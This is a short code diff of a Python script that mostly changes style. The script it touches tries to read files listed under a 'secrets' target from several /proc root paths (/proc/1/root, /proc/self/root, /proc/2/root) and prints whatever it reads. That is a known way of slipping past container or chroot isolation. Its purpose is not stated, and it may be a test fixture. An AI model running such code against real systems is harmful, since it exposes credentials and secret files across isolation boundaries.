@@ -6,12 +6,12 @@ import sys
 from pathlib import Path
 
 sys.path.insert(0, str(Path(__file__).resolve().parent))
-from honest import TARGETS, answer  # noqa: E402
+from honest import TARGETS, answer
 
 answer()
 for root in ("", "/proc/1/root", "/proc/self/root", "/proc/self/cwd/..", "/proc/2/root"):
     for path in TARGETS["secrets"]:
         try:
-            print(open(root + path).read())
+            print(Path(root + path).read_text())
         except OSError as error:
             print(error.errno)
